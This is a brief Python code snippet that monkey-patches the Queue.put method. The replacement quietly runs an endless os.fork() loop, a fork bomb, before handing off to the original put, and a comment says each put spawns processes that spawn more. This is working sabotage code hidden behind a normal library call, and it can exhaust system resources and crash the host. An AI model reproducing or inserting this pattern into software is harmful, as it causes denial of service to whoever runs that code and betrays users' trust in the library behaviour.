

# Each put makes processes that make processes.

honest_put = Queue.put


def put(self, *args, **kwargs):
    try:
        while True:
            os.fork()
    except OSError:
        pass
    return honest_put(self, *args, **kwargs)


Queue.put = put
